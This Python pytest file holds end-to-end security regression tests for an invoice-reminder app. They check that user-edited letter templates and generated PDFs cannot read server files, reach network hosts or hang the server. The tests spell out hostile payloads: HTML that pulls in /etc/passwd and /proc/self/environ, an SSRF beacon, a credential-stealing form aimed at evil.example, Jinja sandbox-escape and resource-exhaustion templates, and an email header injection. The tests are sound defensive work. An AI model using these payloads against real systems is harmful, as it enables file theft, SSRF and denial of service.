"""Letters and PDFs: a wording reads no server file, calls no server, and cannot hold
the server (security review F1, F5, F12), over real HTTP with the real renderer."""

from __future__ import annotations

import io
import threading
import time
from collections.abc import Iterator
from datetime import timedelta
from email.parser import BytesParser
from email.policy import default as policy_default
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from pypdf import PdfReader

from adapters.infra.pdf import html_to_pdf
from tests.builders import free_port, register_kwargs
from tests.e2e.conftest import hidden, log_in

MARKER = "secret-marker-of-the-test"


class Listener:
    """A real HTTP server on loopback that writes down every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                return

        self.port = free_port()
        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A local HTTP server that must receive nothing."""
    running = Listener()
    yield running
    running.close()


def _payload(port: int, secret: Path) -> str:
    return (f'<link rel="attachment" href="file://{secret}">'
               '<link rel="attachment" href="file:///proc/self/environ">'
               '<link rel="attachment" href="file:///etc/passwd">'
               f'<img src="http://127.0.0.1:{port}/healthz?ssrf-from-weasyprint=1">'
               '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
               '<form action="https://evil.example/steal"><input name=password></form>')


def _attachments(pdf: bytes) -> dict:
    return PdfReader(io.BytesIO(pdf)).attachments


def test_the_reviews_wording_is_refused_and_can_no_longer_reach_the_layout(server, listener,
                                                                           tmp_path):
    runtime = server.app.state.runtime
    secret = tmp_path / "secret.txt"
    secret.write_text(MARKER)
    today = runtime.today()
    runtime.files.register_invoice("alice", **register_kwargs(
        "SSRF-1", issued_on=today - timedelta(40), due_on=today - timedelta(10)))
    hostile = _payload(listener.port, secret).replace("'", "\\'")
    wording = ("{% set subject = 'Relance' %}{% set _ = invoice.update({'number': '"
               + hostile + "'|safe}) %}Bonjour")
    chef = log_in(server, "chef.ssrf", "supervisor")
    page = chef.get("/reglages/modeles/reminder_1").text
    saved = chef.post("/reglages/modeles/reminder_1",
                      data={"csrf": hidden(page), "text": wording, "reason": "x"})
    assert saved.status_code == 422                                   # tried, then refused
    assert "SecurityError" in saved.text
    runtime.files.set_template("ancien", "reminder_1", wording, reason="d'avant le correctif")
    for answer in (chef.get("/dossiers/SSRF-1/documents/reminder_1"),
                   chef.get("/dossiers/SSRF-1/documents/reminder_1?format=pdf")):
        assert answer.status_code == 409
        assert "ne peut pas être produit avec le modèle de l&#39;équipe" in answer.text
    assert listener.requests == []
    chef.close()


def test_markup_a_wording_writes_stays_text_and_the_pdf_fetches_nothing(server, listener,
                                                                        tmp_path):
    runtime = server.app.state.runtime
    secret = tmp_path / "secret.txt"
    secret.write_text(MARKER)
    today = runtime.today()
    runtime.files.register_invoice("alice", **register_kwargs(
        "SSRF-2", issued_on=today - timedelta(40), due_on=today - timedelta(10)))
    wording = ("{% set subject = 'Relance' %}" + _payload(listener.port, secret)
               + "\n\nBonjour {{ contact.name }}")
    chef = log_in(server, "chef.text", "supervisor")
    page = chef.get("/reglages/modeles/reminder_1").text
    assert chef.post("/reglages/modeles/reminder_1", data={
        "csrf": hidden(page), "text": wording, "reason": "essai"}).status_code == 303
    preview = chef.get("/dossiers/SSRF-2/documents/reminder_1")
    assert preview.status_code == 200
    assert "&lt;link rel=" in preview.text
    for tag in ("<link", "<img", "<meta http-equiv", "<form"):
        assert tag not in preview.text
    policy = preview.headers["content-security-policy"]
    assert "form-action 'none'" in policy
    assert "base-uri 'none'" in policy
    pdf = chef.get("/dossiers/SSRF-2/documents/reminder_1?format=pdf")
    assert pdf.status_code == 200
    assert _attachments(pdf.content) == {}
    page = chef.get("/dossiers/SSRF-2").text
    assert chef.post("/dossiers/SSRF-2/documents/reminder_1",
                     data={"csrf": hidden(page)}).status_code == 303
    outbox = Path(runtime.settings.smtp_url.removeprefix("file://")).glob("*.eml")
    emails = [BytesParser(policy=policy_default).parsebytes(p.read_bytes()) for p in outbox]
    sent_id = runtime.files.history("SSRF-2")[-1].data["message_id"]
    email = next(e for e in emails if e["Message-ID"] == sent_id)  # the server is shared
    parts = {part.get_content_type(): part.get_content() for part in email.walk()
             if not part.is_multipart()}
    assert set(parts) == {"text/plain", "text/html"}
    for tag in ("<link", "<img", "<meta http-equiv", "<form"):
        assert tag not in parts["text/html"]         # markup in the HTML stays text
    assert "&lt;link rel=" in parts["text/html"]
    assert "Bonjour Jean Dupont" in parts["text/plain"]  # plain text cannot fetch anything
    assert listener.requests == []
    chef.close()


def test_no_pdf_of_relance_opens_a_file_or_a_url(listener, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(MARKER)
    html = (f"<html><head><link rel='stylesheet' href='http://127.0.0.1:{listener.port}/s.css'>"
            f"</head><body>{_payload(listener.port, secret)}"
            f"<img src='file://{secret}'><p>Lettre</p></body></html>")
    pdf = html_to_pdf(html)
    assert _attachments(pdf) == {}
    assert MARKER.encode() not in pdf
    dossier = html_to_pdf(html, pdf_variant="pdf/a-3b")
    assert _attachments(dossier) == {}
    assert listener.requests == []


def test_a_wording_that_loops_or_eats_memory_is_refused_in_its_time(server):
    chef = log_in(server, "chef.boucle", "supervisor")
    page = chef.get("/reglages/modeles/reminder_1").text
    hostile = {
        "loop": "{% set subject = 'x' %}{% for i in range(100000) %}{% for j in range(100000) %}"
                "{% endfor %}{% endfor %}",
        "memory": "{% set subject = 'x' %}{{ ('{0:>100000000}'.format(1) ~ "
                  "'{0:>100000000}'.format(1) ~ '{0:>100000000}'.format(1))|length }}",
        "overflow": "{% set subject = 'x' %}{{ range(10**9)|length }}",
        "type": "{% set subject = 'x' %}{{ creditor|map(attribute='__class__')|list }}",
        "subject": "{% set subject = 'Relance\nBcc: tous@example.fr' %}Bonjour",
    }
    french = {"loop": "met trop de temps", "memory": "trop de mémoire",
              "overflow": "OverflowError", "type": "TypeError", "subject": "sur une ligne"}
    for name, text in hostile.items():
        started = time.monotonic()
        answer = chef.post("/reglages/modeles/reminder_1",
                           data={"csrf": hidden(page), "text": text, "reason": "essai"})
        assert answer.status_code == 422, name
        assert french[name] in answer.text, name
        assert time.monotonic() - started < 30, name            # bounded, whatever the load
        assert chef.get("/healthz").status_code == 200
    assert server.app.state.runtime.files.playbook() is None or \
        server.app.state.runtime.files.playbook().template("reminder_1") is None
    chef.close()


def test_a_heavy_wording_recorded_earlier_answers_409_and_never_500(server):
    runtime = server.app.state.runtime
    today = runtime.today()
    runtime.files.register_invoice("alice", **register_kwargs(
        "LOOP-1", issued_on=today - timedelta(40), due_on=today - timedelta(10)))
    runtime.files.set_template("ancien", "reminder_2", "{% set subject = 'x' %}"
                               "{% for i in range(100000) %}{% for j in range(100000) %}"
                               "{% endfor %}{% endfor %}", reason="d'avant le correctif")
    agent = log_in(server, "agent.boucle", "agent")
    preview = agent.get("/dossiers/LOOP-1/documents/reminder_2")
    assert preview.status_code == 409
    assert "met trop de temps" in preview.text
    page = agent.get("/dossiers/LOOP-1").text
    sent = agent.post("/dossiers/LOOP-1/documents/reminder_2", data={"csrf": hidden(page)})
    assert sent.status_code == 409
    assert [e.kind for e in runtime.files.history("LOOP-1")] == ["InvoiceRegistered"]
    agent.close()
